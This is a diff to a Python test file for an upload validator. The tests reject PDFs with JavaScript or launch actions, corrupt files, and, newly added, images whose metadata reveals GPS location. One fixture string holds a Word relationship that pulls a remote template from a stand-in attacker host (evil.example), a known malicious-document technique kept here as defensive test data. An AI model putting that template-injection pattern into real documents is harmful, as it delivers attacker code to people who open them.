@@ -10,7 +10,20 @@ from hypothesis import strategies as st
 
 from itdrift.uploads import CONTENT_TYPES, clean_name, kind_of, text_in
 
-from ..onboarding.letters.files import DOCX, JPEG, MAIN, OFFICE, PDF, PNG, office, open_document, packed, pdf
+from ..onboarding.letters.files import (
+    DOCX,
+    JPEG,
+    MAIN,
+    OFFICE,
+    PDF,
+    PNG,
+    office,
+    open_document,
+    packed,
+    pdf,
+    picture,
+    taken_at,
+)
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
 DOCUMENT = {
@@ -22,6 +35,14 @@ AFAR = (
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
     ' Target="https://evil.example/a.dotm" TargetMode="External"/>'
 )
+
+
+STOCKHOLM = {
+    "GPSLatitudeRef": "N",
+    "GPSLatitude": (59.0, 19.0, 46.0),
+    "GPSLongitudeRef": "E",
+    "GPSLongitude": (18.0, 4.0, 7.0),
+}
 
 
 def javascript(made):
@@ -48,6 +69,7 @@ TAKEN = {
     "a.png": PNG,
     "a.jpg": JPEG,
     "a.jpeg": JPEG,
+    "kamera.jpg": picture("JPEG", exif=taken_at(GPSDateStamp="2026:11:30")),
     "a.docx": DOCX,
     "webb.docx": office("word/document2.xml"),
     "webb.xlsx": office("xl/workbook22.xml"),
@@ -131,6 +153,8 @@ REFUSED = {
     "skript.pdf": (pdf(javascript), "innehåller JavaScript eller något som startar program"),
     "start.pdf": (pdf(launch), "innehåller JavaScript eller något som startar program"),
     "fyra.jpg": (b"\xff\xd8\xff\xe0", UNREADABLE),
+    "plats.jpg": (picture("JPEG", exif=taken_at(**STOCKHOLM)), "visar i sina egenskaper var bilden är tagen"),
+    "plats.png": (picture("PNG", exif=taken_at(**STOCKHOLM)), "visar i sina egenskaper var bilden är tagen"),
     "huvud.png": (PNG[:20], UNREADABLE),
     "halv.docx": (DOCX[:60], UNREADABLE),
     "trasig.docx": (b"PK\x03\x04" + bytes(200), UNREADABLE),
